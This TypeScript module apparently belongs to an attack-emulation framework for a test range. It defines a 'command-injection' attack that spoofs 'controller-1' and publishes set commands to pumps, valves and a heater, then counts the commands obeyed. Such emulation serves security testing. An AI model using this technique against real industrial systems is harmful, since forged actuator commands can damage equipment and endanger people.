import type { Attack } from './attack.ts'
import { publish } from './packets.ts'

const COMMANDS = 12

/** Sends commands to actuators. Effect: commands that an actuator obeyed, or that at least arrived behind the gateway. */
export const commandInjection: Attack = {
  name: 'command-injection',
  technique: 'T1692.001',
  title: 'Send commands to pumps and valves',
  expected: 'access',
  alone: false,
  seconds: () => 3,
  async run(range) {
    await range.proveAccess()
    const { marker, sighting } = range.mark()
    const victims = ['pump-1', 'valve-4', 'heater-1']
    const messages = Array.from({ length: COMMANDS }, (_, i) => {
      const payload = JSON.stringify({ ts: Date.now(), trace: marker, source: 'controller-1', value: 1 })
      const topic = range.topic(victims[i % victims.length], 'set')
      return publish(range.observer.version, { topic, payload, qos: i % 2 === 0 ? 0 : 1 }, i + 1)
    })
    const attempts = await range.deliver(range.observer.version, messages)
    await range.until(() => range.fleet.obeyed(marker) >= sighting.count, 2000)
    const obeyed = range.fleet.obeyed(marker)
    const detail = `${sighting.count} of ${attempts} commands arrived, ${obeyed} were obeyed`
    return { attempts, effect: Math.max(obeyed, sighting.count), detail }
  },
}
